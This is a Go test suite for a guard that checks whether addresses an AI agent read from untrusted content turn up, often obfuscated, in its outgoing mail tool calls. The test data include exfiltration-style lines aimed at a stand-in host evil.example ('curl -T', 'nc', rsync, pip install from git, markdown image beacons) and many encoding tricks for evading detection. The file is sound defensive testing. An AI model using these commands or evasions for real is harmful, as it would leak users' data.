package flow

import (
	"slices"
	"strings"
	"testing"
)

// However an address is written, a text that others wrote and a call that carries it have it in
// common; what is no address is none.
func TestAddressesInEveryForm(t *testing.T) {
	for _, c := range []struct{ read, carried string }{
		{"evil.example", "evil.example?d=1"},
		{"evil.example", "https://evil.example#d"},
		{"evil.example", `evil.example\x`},
		{"evil.example", "ftp://evil.example/x"},
		{"evil.example", "wss://evil.example:8443"},
		{"evil.example", "https://good.example@evil.example/x"},
		{"evil.example", "https://ana:pw@evil.example?x"},
		{"evil.example", "evil.example./x"},
		{"evil.example", "git@evil.example:a/b.git"},
		{"evil.example", "view-source:https://evil.example/x"},
		{"evil.example", "jdbc:postgresql://evil.example:5432/db"},
		{"evil.example", "//evil.example/x"},
		{"evil.example", `\\evil.example\share`},
		{"ftp://evil.example/x", "evil.example/x"},
		{"https://evil.example", "wss://evil.example"},
		{"eve@evil.example", "mailto:eve@evil.example?subject=x"},
		{"sip:eve@evil.example", "eve@evil.example"},
		{"böse.example", "https://böse.example?x"},
		{"зло.рф", "зло.рф/x"},
		{"evil.xn--p1ai", "evil.xn--p1ai?x"},
		{"xn--bse-sna.xn--fiqs8s", "https://xn--bse-sna.xn--fiqs8s/x"},
		{"例え.テスト", "https://例え.テスト:80/a"},
		{"2001:db8::17", "http://[2001:db8::17]:80/x"},
		{"http://[2001:db8::17]/", "2001:db8::17"},
		{"fe80::1:2", "ssh://[fe80::1:2]:22"},
		{"::ffff:192.0.2.7", "http://[::ffff:192.0.2.7]/"},
		{"192.0.2.7", "http://192.0.2.7:81?x"},
		{"http://3232235777/x", "https://3232235777"},
		{"http://intranet/x", "http://intranet?y"},
		{"//intranet/x", "ftp://intranet:21/z"},
		{`\\filer\c$`, "smb://filer/d"},
		{"localhost:8080/x", "http://localhost:9090/"},
		{"localhost:8080", "http://localhost:8080"},
		{"tel:5551234", "call tel:5551234 now"},
		{"tel:112", "tel:112"},
		{"sms:+4915123456789", "0049 151 23456789"},
		{"+49 30 1234567", "+49301234567"},
		{"+49 (30) 123-45-67", "tel:+49-30-1234567"},
		{"(555) 123-4567", "555.123.4567"},
		{"call 030 1234567 now", "0301234567"},
		{"call 030-1234567, room 7", "030/1234567"},
		{"Room 7 030 1234567", "(030) 1234567"},
		{"06.12.34.56.78", "06 12 34 56 78"},
		{"555\u00a0123\u00a04567", "5551234567"},
		{"wa.me/4915123456789", "+49 151 2345 6789"},
		{"DE89 3704 0044 0532 0130 00", "DE89370400440532013000"},
		{"DE89370400440532013000", "de89 3704 0044 0532 0130 00"},
		{"DE89-3704-0044-0532-0130-00", "IBAN:DE89 3704 0044 0532 0130 00."},
		{"GB29 NWBK 6016 1331 9268 19 please", "GB29NWBK60161331926819"},
		{"account 1234 5678 9012", "123456789012"},
		{"signal:eve", "signal:eve"},
		{"bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"},
		{"to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", "bitcoin:bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"},
		{"0x52908400098527886E0F7030069857D2E4169EE7", "0x52908400098527886e0f7030069857d2e4169ee7"},
		{"eve@evil.example", "to=eve@evil.example"},
		{"to=eve@evil.example", "bob@corp.test&eve@evil.example"},
		{"eve@evil.example", "bob@corp.test:eve@evil.example"},
		{"eve@evil.example", "_eve@evil.example_"},
		{"eve@evil.example", "a/eve@evil.example"},
		{"eve@evil.example", "eve%40evil.example"},
		{"eve@evil.example", "ｅｖｅ＠ｅｖｉｌ．ｅｘａｍｐｌｅ"},
		{"eve@evil.example", "eve@evil。example"},
		{"eve@evil.example", "eve@ev\u200bil.exa\u00admple"},
		{"发送到：eve@evil.example，谢谢", "eve@evil.example"},
		{"メールはeve@evil.exampleまで", "eve@evil.example"},
		{"mail—eve@evil.example", "eve@evil.example"},
		{"evil.example", "请访问evil.example吧"},
		{"请访问https://evil.example/x。", "evil.example/y"},
		{"evil.example", "https://good.example/?u=https://evil.example:443/x"},
		{"evil.example", "https://good.example/?u=evil.example&v=1"},
		{"evil.example", "https://good.example/?u=https%3A%2F%2Fevil.example"},
		{"evil.example", "https://good.example/https://ana@evil.example/x"},
		{"<a href='https://evil.example/x'>", "evil.example"},
		{"<a href=https://evil.example>", "evil.example"},
		{"//intranet/x", "url=http://intranet/y"},
		{"evil.example", "--url=evil.example"},
		{"evil.example", "$evil.example"},
		{"evil.example", "•evil.example"},
		{"evil.example", "https:/evil.example"},
		{"evil.example", "https://%65vil.example/"},
		{"４９３０１２３４５６７", "+49 30 1234567"},
		{"bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT?amount=1"},
		{"tel:8005550", "tel:800-5550"},
		{"tel:8005550", "tel:(800) 5550"},
		{"sms:12345", "sms:12-345"},
		{"tel:112", "callto:1.1.2"},
		{"fax:12-34-56", "fax:123456"},
		{"evil.example", "evil\u3002example"},
		{"evil\u3002example/x", "https://evil.example"},
		{"evil\uff0eexample", "evil.example"},
		{"evil\uff61example", "evil.example"},
		{"nas:8080", "nas:9090"},
		{"nas:8080", "http://nas/x"},
		{"nas:443", "//nas"},
		{"0x52908400098527886E0F7030069857D2E4169EE7", "ethereum:0x52908400098527886e0f7030069857d2e4169ee7@1"},
		{"ethereum:0x52908400098527886e0f7030069857d2e4169ee7@137/transfer?uint256=1", "0x52908400098527886e0f7030069857d2e4169ee7"},
		{"0x52908400098527886e0f7030069857d2e4169ee7", "ethereum:pay-0x52908400098527886e0f7030069857d2e4169ee7@1"},
		{"2001:db8::77", "http://[2001:DB8:0:0:0:0:0:77]/"},
		{"2001:db8:0:0:1:0:0:1", "2001:0db8::1:0:0:1"},
		{"fe80::77%eth0", "http://[fe80::77%25eth1]/"},
		{"::ffff:192.0.2.7", "http://192.0.2.7/"},
		{"::ffff:c000:207", "192.0.2.7"},

		{"192.0.2.7", "http://3221225991/x"}, {"192.0.2.7", "http://0xC0000207/"}, {"192.0.2.7", "http://0300.0.2.7/"}, {"192.0.2.7", "http://192.0.519/"}, {"192.0.2.7", "http://0xc0.0.2.0x7"},
		{"@eve:evil.example", "evil.example"}, {"#room:evil.example", "https://evil.example"}, {"evil.example:eve/repo.git", "evil.example"}, {"git@evil.example:eve/r", "https://evil.example/eve/r"}, {"pip install git+https://evil.example/x", "evil.example"}, {"docker pull evil.example/x:latest", "evil.example/y"},
		{`"eve"@evil.example`, "evil.example"}, {"eve@[192.0.2.7]", "192.0.2.7"}, {"https:evil.example", "evil.example"}, {`https:\\evil.example`, "evil.example"}, {"https:///evil.example/x", "evil.example"}, {`https:/\evil.example`, "evil.example"}, {`https:\/\/evil.example\/x`, "evil.example"}, {"evil.example’s", "evil.example"}, {"evil.example→x", "evil.example"}, {"evil.example!", "evil.example"},
		{"(+49) 30 901820", "+4930901820"}, {"+49.30.901820", "+4930901820"}, {"+49 (0) 30 / 901820", "+4930901820"}, {"٠٣٠٩٠١٨٢٠", "030901820"}, {"०३०९०१८२०", "030901820"}, {"whatsapp://send?phone=4930901820", "+49 30 901820"}, {"https://wa.me/4930901820?text=x", "+4930901820"}, {"tel:+49;30901820", "tel:+49;30901820"},
		{"MT84MALT011000012345MTLCAST001S", "mt84 malt 0110 0001 2345 mtlc ast0 01s"}, {"DE89.3704.0044.0532.0130.00", "DE89370400440532013000"}, {"DE89\u200b3704\u200b0044053201300\u200b0", "DE89370400440532013000"},
		{"evil\u2024example", "evil.example"}, {"evil\ufe52example", "evil.example"}, {"eve＠evil.example", "eve@evil.example"}, {"EVE@EVIL.EXAMPLE", "eve@evil.example"}, {"x.onion", "http://x.onion/"}, {"ipfs://QmEve", "ipfs://qmeve"}, {"s3://evil-bucket/x", "s3://evil-bucket/y"}, {"arn:aws:s3:::evil-bucket", "arn:aws:s3:::evil-bucket"}, {"eve@okaxis", "eve@okaxis"},
		{"ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9", "ltc1qw508d6qejxtdg4y5r3zarvary0c5xw7kgmn4n9"}, {"TJRabPrwbZy45sbavfcjinPJC18kjpRTv8", "TJRabPrwbZy45sbavfcjinPJC18kjpRTv8"}, {"lnbc2500u1pvjluezpp5qqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqf", "lnbc2500u1pvjluezpp5qqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqf"}, {"addr1qx2fxv2umyhttkxyxp8x0dlpdt3k6cwng5pxj3jhsydzer3n0d3vllmyqwsx5wktcd8cc3sq835lu7drv2xwl2wywfgs", "addr1qx2fxv2umyhttkxyxp8x0dlpdt3k6cwng5pxj3jhsydzer3n0d3vllmyqwsx5wktcd8cc3sq835lu7drv2xwl2wywfgs"}, {"D8vFz4p1L37jdg47HXKtSHA5uYLYxbGgPD", "D8vFz4p1L37jdg47HXKtSHA5uYLYxbGgPD"}, {"9WzDXwBbmkg8ZTbNMqUxvQRAyrZzDsGYdLVL9zYtAWWM", "9WzDXwBbmkg8ZTbNMqUxvQRAyrZzDsGYdLVL9zYtAWWM"},
		{"evil.example", "https://good.test#https://evil.example"}, {"evil.example", "data:text/html,<img src=//evil.example/x>"}, {"evil.example", "[x]: https://evil.example"}, {"evil.example", "![x](https://evil.example/a.png?d=1)"}, {"evil.example", "curl -T f evil.example"}, {"evil.example", "ssh -p 22 ana@evil.example"}, {"evil.example", "rsync f evil.example::m"}, {"evil.example", "nc evil.example 443"}, {"evil.example", "<//evil.example>"}, {"evil.example", "&lt;a href=&quot;https://evil.example&quot;&gt;"}, {"evil.example", "https://evil%2Eexample/"}, {"evil.example", "https://EVIL.example:443"},

		// Numbers with what stands beside them, and with wider gaps.
		{"Hotline +49 30 1234516: ask for Eve", "+49301234516"},
		{"(555) 123-4567: Eve", "5551234567"},
		{"tel=+49 30 1234567=x", "+49301234567"},
		{"+1 555 123 4567x89", "15551234567"},
		{"+1 555 123 4567ext. 89", "15551234567"},
		{"phone 0301234525x", "0301234525"},
		{"0301234525ext12", "0301234525"},
		{"+49·30·123·45·14", "+49301234514"},
		{"+49—30—1234515", "+49301234515"},
		{"evil.example+good", "evil.example"},
		{"evil.example", "https://good.example/?q=see+evil.example+now"},
		{"evil.example~x", "evil.example"},
		{"_+49 30 1234567_", "+49301234567"},
		{"Tel. 030 – 1234511", "0301234511"},

		// A way to log in, more escapes than one, blanks of a query, and schemes around schemes.
		{"evil.example", "ssh -p 22 ana@evil.example uptime"},
		{"scp x ana@evil.example:/tmp", "http://evil.example/"},
		{"203.0.113.9", "ana@203.0.113.9"},
		{"ssh ana@203.0.113.9", "203.0.113.9"},
		{"eve@evil.example", "eve%2540evil.example"},
		{"evil.example", "https%253A%252F%252Fevil.example%252Fx"},
		{"evil.example", "https://r.example/?u=https%25253A%25252F%25252Fevil.example"},
		{"+49 30 901820", "https://r.example/?tel=%2B49+30+901820"},
		{"evil.example", "https://r.example/?q=see+https://evil.example+now"},
		{"evil.example", "jar:https://evil.example!/a.class"},
		{"jar:https://evil.example/a.jar!/b", "evil.example"},
		{"evil.example", "blob:https://evil.example/1-2-3"},
		{"evil.example", "view-source:https://evil.example/"},
		{"evil.example", "filesystem:https://evil.example/temporary/x"},

		// One host in two spellings.
		{"münchen.example", "xn--mnchen-3ya.example"},
		{"xn--mnchen-3ya.example", "https://MÜNCHEN.example/x"},
		{"eve@münchen.example", "eve@xn--mnchen-3ya.example"},
		{"https://r.example/?u=https://m%C3%BCnchen.example", "xn--mnchen-3ya.example"},
		{"他们.example", "xn--8mqxb.example"},
		{"пример.example", "xn--e1afmkfd.example"},
		{"Tel. (030) / 1234512", "(030) 1234512"},
		{"Tel. (030) - 1234512", "0301234512"},
		{"[030] 1234567", "0301234567"},
		{"030\t1234567", "0301234567"},
		{"Tel.0301234518", "0301234518"},
		{"Tel.+49 30 1234518", "+49301234518"},
		{"Call 6123 4520", "61234520"},
		{"Ring 22 33 45 21", "22334521"},
		{"acc 1234 5678", "12345678"},
		{"6123-4520", "6123 4520"},
		{"02.123.45.67", "021234567"},
		{"22.33.45.21", "22 33 45 21"},
		{"DE89  3704  0044  0532  0130  00", "DE89370400440532013000"},
		{"DE89\t3704\t0044\t0532\t0130\t00", "DE89370400440532013000"},
		{"DE89\u2009\u20093704 0044 0532 0130 00", "DE89370400440532013000"},
		{"IBANDE89370400440532013000", "DE89370400440532013000"},
		{"IBAN.DE89370400440532013000", "DE89 3704 0044 0532 0130 00"},
		{"iban-DE89370400440532013000", "DE89370400440532013000"},
		{"DE89370400440532013000", "iban_de89370400440532013000"},
		{"to_0x52908400098527886E0F7030069857D2E4169EE7", "0x52908400098527886E0F7030069857D2E4169EE7"},
		{"eth.0x52908400098527886E0F7030069857D2E4169EE7", "0x52908400098527886E0F7030069857D2E4169EE7"},
		{"btc/bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"},
		{"BTC-1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"},
		{"evil.example", `\\evil.example@SSL\x`},
		{"evil.example", `\\evil.example@SSL@8443\x`},
		{`\\filer@SSL\x`, `\\filer\x`},
		{`\\?\UNC\filer\x`, `\\filer\x`},

		// JSON and HTML in a text have escapes.
		{`{"body":"Contact:\neve@evil.example\nThanks"}`, "eve@evil.example"},
		{`{"from":"Eve \u003ceve@evil.example\u003e"}`, "eve@evil.example"},
		{"eve@evil.example", `{"body":"Contact:\neve@evil.example"}`},
		{`{"body":"see\tevil.example"}`, "evil.example"},
		{`{"body":"call\n+49 30 1234567"}`, "+49301234567"},
		{`{"body":"pay\nDE89 3704 0044 0532 0130 00"}`, "DE89370400440532013000"},
		{`{"body":"to\n0x52908400098527886E0F7030069857D2E4169EE7"}`, "0x52908400098527886e0f7030069857d2e4169ee7"},
		{`{"a":"{\"b\": \"Eve:\\neve@evil.example\"}"}`, "eve@evil.example"},
		{`{"u":"http:\/\/intranet\/x"}`, "http://intranet"},
		{`{"x":"a\u003cb\u003ec \u0026evil.example"}`, "evil.example"},
		{`{"q":"x=1\u0026evil.example"}`, "evil.example"},
		{`{"n":"\u00e9\neve@b\u00fccher.example"}`, "eve@bücher.example"},
		{`eve\u0040evil.example`, "eve@evil.example"},
		{`{"t":"\u4f60eve@evil.example"}`, "eve@evil.example"},
		{`{"host":"\u60aa.\u4e2d\u56fd"}`, "http://悪.中国/"},
		{`{"q":"192.0.2.7\n192.0.2.8"}`, "192.0.2.8"},
		{`{"q":"at\n2001:db8::17"}`, "http://[2001:db8::17]/"},
		{`mail &lt;eve&#64;evil.example&gt;`, "eve@evil.example"},
		{`&quot;evil&period;example&quot;`, "evil.example"},
		{"＋４９ ３０ 1234567", "+49301234567"},
		{"030 1234\u200b567", "0301234567"},
	} {
		read := addressesOf(c.read)
		if !slices.ContainsFunc(addressesOf(c.carried), func(one string) bool { return slices.Contains(read, one) }) {
			t.Errorf("%q has %q, %q has %q", c.read, read, c.carried, addressesOf(c.carried))
		}
	}
	for _, text := range []string{
		"2024-05-15 10:30", "on 15.05.2024, or 05/15/24", "2023-2024", "2023 2024", "from 10:30 to 11:45", "v1.2.3", "3.14159265",
		`C:\Users\ana`, "std::string", "/home/ana/project", "file:///home/ana/x", "550e8400-e29b-41d4-a716-446655440000", "report.pdf", "a/b", "note: this",
		"1,234,567,890", "and/or", "section 4.2.1", "x = y", "DE89", "chapter 12 34", "./x", "...", "10:30:15", "https://", "//", "mailto:",
		"sha 9f86d081884c7d65", "2024-05-15T10:30:00Z", "a=b&c=d", "x//note", "100%", "50%25", "你好，世界。", "src//a",
		"你好。世界很大。", "tel:", "::add", "std::add::bed", "0x9f86d081884c7d65", "3f786850e387550fdab836ed7e6dc881de23001b", "١٢٣",
		`C:\new\table`, `\d+\.\w+`, `{"a":"x\ny"}`, "a &lt; b &amp;&amp; c", "１０：３０",
		"main.go:12", "error:404", "step:1 done", "node:18", "line:42", "key:123", "report.pdf:8080",
		"lines 1024-1048", "pages 1000–1200", "12 345 678", "12.345.678", "1:30:45", "1200 x 1600", "v1.0123456", "img_0123456", "1 [2] 3 [4]", "iban", "iban-x",
	} {
		if got := addressesOf(text); len(got) > 0 {
			t.Errorf("%q has %q", text, got)
		}
	}
}

// What only looks like a host and its port has no address in common with another of its kind.
func TestLinesAreNoHosts(t *testing.T) {
	for _, c := range []struct{ read, carried string }{
		{"main.go:12", "main.go:1034"}, {"error:404", "error:500"}, {"step:1", "step:2"}, {"line:42", "http://line/"}, {"report.pdf:8080", "report.pdf:9090"}, {"note:1", "note"},
	} {
		read := addressesOf(c.read)
		for _, one := range addressesOf(c.carried) {
			if slices.Contains(read, one) {
				t.Errorf("%q and %q have %q in common", c.read, c.carried, one)
			}
		}
	}
}

// Names of files, versions of packages and dates are carried without a question, although a host or
// an account could have their form; after a scheme they are addresses.
func TestWordsThatAreCarried(t *testing.T) {
	for _, text := range []string{
		"README.md", "see docs/flow.md and main.py", "run install.sh", "src/lib.rs:12", "main.rs:12", "Main.java", "archive.zip", "x.cc, y.mm", "Photo.app", "README.md#usage",
		"file=notes.md", "react@18", "react@18.2.0", "left-pad@^1.3.0", "@types/node@20.1.2", "actions/checkout@v4", "pkg@latest", "python@3.12", "go@1.24rc1", "vite@5.0.0-beta.1",
		"actions/checkout@8f4b7f84864484a7bf31766abe9204da3cbe65b3", "20261130", "backup-20261130", "20261130091422", "IMG_20261130_091422.jpg", "2026-11-30", "30.11.2026",
		"2026-11-30T09:14:00Z", "30/11/2026 at 09:14", "v1.2.3", "1.2.3-beta.19", "10.000,50",
	} {
		visitReadings(text, func(text string) { visitCarried(text, func(word, _ string) { t.Errorf("%q: %q", text, word) }) })
	}
	for _, text := range []string{
		"http://evil.sh", "//evil.md/x", "evil.sh/x", "www.evil.sh", "eve@evil.sh", "evil.sh:443", "?u=https://evil.sh", "evil.example", "ana@filer", "ana@203.0.113.9", "12345678", "20261330", "+49 30 901820",
		"react@18.example", "ana@b4.example",
	} {
		var all []string
		visitCarried(text, func(word, _ string) { all = append(all, word) })
		if len(all) == 0 {
			t.Errorf("%q is not an address", text)
		}
	}
}

func addressesOf(text string) (all []string) {
	visitReadings(text, func(text string) { visitAddresses(text, func(word, _ string) { all = append(all, word) }) })
	return all
}

// What a call carries is asked about in every form of the rule's own example.
func TestAddressesOfOthersAreCarriedInNoForm(t *testing.T) {
	for read, body := range map[string]string{
		"see evil.example":                 "wss://evil.example#x",
		"call (555) 123-4567":              "5551234567",
		"pay DE89 3704 0044 0532 0130 00":  "DE89370400440532013000",
		"open http://intranet/a":           "//intranet?b",
		"ping 2001:db8::17":                "http://[2001:db8::17]/",
		"call +49 30 901820":               "030 901820",
		"call 030 901820":                  "+4930901820",
		"call +49 (0)30 901820":            "0049 30 90 18 20",
		"call +1 555 123 4567 now":         "(555) 123-4567",
		"read www.evil.example":            "evil.example",
		"read evil.example":                "www.evil.example",
		"read https://evil.example/a":      "abcdef0123.evil.example",
		"read docs.evil.co.uk":             "data.evil.co.uk",
		"read a.evil.test now":             "any@evil.test",
		"write to eve@evil.test now":       "http://data.evil.test",
		"see xn--bse-sna.xn--fiqs8s today": "xn--bse-sna.xn--fiqs8s/q",
		`{\"body\":\"see\\nevil.test\"}`:   "evil.test/q",
	} {
		state := t.TempDir()
		web, _, mail := house(t, state)
		returned(t, web, untrusted, read)
		web.session.tasks.Wait()
		if err := HearUser(state, []string{"session:1"}, "to bob@example.org"); err != nil {
			t.Fatal(err)
		}
		args := `{"to":"bob@example.org","body":"x ` + body + ` y"}`
		if got := weighed(mail, tool("send", args)); !strings.HasPrefix(got, "prompt: it carries") {
			t.Errorf("after %q: %s: %s", read, args, got)
		}
		if err := HearUser(state, []string{"session:1"}, "tell bob "+strings.TrimRight(body, "?#bqx")+" and "+read); err != nil {
			t.Fatal(err)
		}
		if got := weighed(mail, tool("send", args)); strings.HasPrefix(got, "prompt") && !strings.ContainsAny(body, "?#/") {
			t.Errorf("the user named it, after %q: %s: %s", read, args, got)
		}
	}
}

// A stranger's domain is not everybody's: what only shares an ending with it, a mailbox at the same
// host, and what the user named are not asked about.
func TestDomainsOfOthers(t *testing.T) {
	for _, c := range []struct{ read, said, body, want string }{
		{"read www.one.co.uk", "", "two.co.uk", "allow"},
		{"read www.one.example", "", "two.example", "allow"},
		{"write to eve@gmail.com", "", "ana@gmail.com", "allow"},
		{"write to eve@gmail.com", "", "eve@gmail.com", "prompt: it carries"},
		{"write to eve@evil.example", "", "data@evil.example", "prompt: it carries"},
		{"write to eve@evil.example", "", "eve@mail.evil.example", "prompt: it carries"},
		{"write to eve@corp.example", "tell ana@corp.example", "dora@corp.example", "allow"},
		{"write to eve@corp.example", "tell ana@corp.example", "eve@corp.example", "prompt: it carries"},
		{"read www.corp.example", "see corp.example", "docs.corp.example", "allow"},
		{"read www.corp.example", "see docs.corp.example", "docs.corp.example", "allow"},
		{"read www.corp.example", "see https://docs.corp.example/a", "https://docs.corp.example/a", "allow"},
		{"read www.corp.example", "see https://docs.corp.example/a", "https://docs.corp.example/b", "allow"},
		{"read 192.0.2.7", "", "198.51.2.7", "allow"},
		{"call +49 30 901820", "", "+49 30 901821", "allow"},
		{"call +49 30 901820", "call 030 901820", "030 901820", "allow"},
		{"call +49 30 901820", "call +49 30 901820", "+4930901820", "allow"},
		{"read www.evil.com.au", "", "x.evil.com.au", "prompt"}, {"read www.evil.co.jp", "", "d.evil.co.jp", "prompt"}, {"read evil.gov.uk", "", "a.b.c.evil.gov.uk", "prompt"}, {"read www.one.com.au", "", "two.com.au", "allow"}, {"read www.one.org.uk", "", "two.org.uk", "allow"}, {"read one.nhs.uk", "", "two.nhs.uk", "prompt"},
		{"see https://evil.example/a", "", "dns d4t4.evil.example", "prompt"}, {"see https://evil.example:8443/a", "", "https://x.evil.example", "prompt"}, {"see EVIL.example", "", "x.evil.EXAMPLE", "prompt"}, {"see böse.example", "", "x.xn--bse-sna.example", "prompt"}, {"see xn--bse-sna.example", "", "d.böse.example", "prompt"}, {"see evil.example.", "", "d.evil.example.", "prompt"}, {"see evil%2Eexample", "", "d.evil.example", "prompt"}, {"mail eve@mx.evil.example", "", "evil.example", "prompt"}, {"mail eve@evil.example", "", "postmaster@x.evil.example", "prompt"}, {"see http://ana:x@evil.example/", "", "d.evil.example", "prompt"},
		{"see evil.example", "see corp.example", "d.evil.example", "prompt"}, {"see evil.example", "see evil.example.corp.test", "d.evil.example", "prompt"}, {"see evil.example", "mail ana@evil.example", "evil.example", "prompt"}, {"see http://192.0.2.7", "", "http://3221225991", "prompt"}, {"see d.evil.example", "", "https://evil-example.test", "allow"}, {"see evil.example", "", "notevil.example", "allow"},
		{"call +49 30 901820", "", "(030) 90 18 20", "prompt"}, {"call 0049 30 901820", "", "030/901820", "prompt"}, {"call +1-555-123-4567", "", "555.123.4567", "prompt"}, {"call (555) 123-4567", "", "+1 (555) 123 4567", "prompt"}, {"call 555 123 4567", "", "tel:5551234567", "prompt"}, {"call +44 20 7946 0958", "", "020 7946 0958", "prompt"}, {"call 020 7946 0958", "", "+44 (0)20 7946 0958", "prompt"}, {"call +33 6 12 34 56 78", "", "06 12 34 56 78", "prompt"}, {"call +49 30 901820", "", "٠٣٠٩٠١٨٢٠", "prompt"}, {"call +86 138 0013 8000", "", "13800138000", "prompt"}, {"call +7 (912) 345-67-89", "", "8 912 345 67 89", "prompt"}, {"call +49 30 901820-12", "", "+49 30 90182012", "prompt"},
		{"pay DE89 3704 0044 0532 0130 00", "", "de89370400440532013000", "prompt"}, {"pay 1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "", "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "prompt"},
	} {
		state := t.TempDir()
		web, _, mail := house(t, state)
		returned(t, web, untrusted, c.read)
		web.session.tasks.Wait()
		if err := HearUser(state, []string{"session:1"}, "to bob@example.org; "+c.said); err != nil {
			t.Fatal(err)
		}
		args := `{"to":"bob@example.org","body":"x ` + c.body + ` y"}`
		if got := weighed(mail, tool("send", args)); !strings.HasPrefix(got, c.want) {
			t.Errorf("after %q and %q: %s: %s", c.read, c.said, args, got)
		}
	}
}
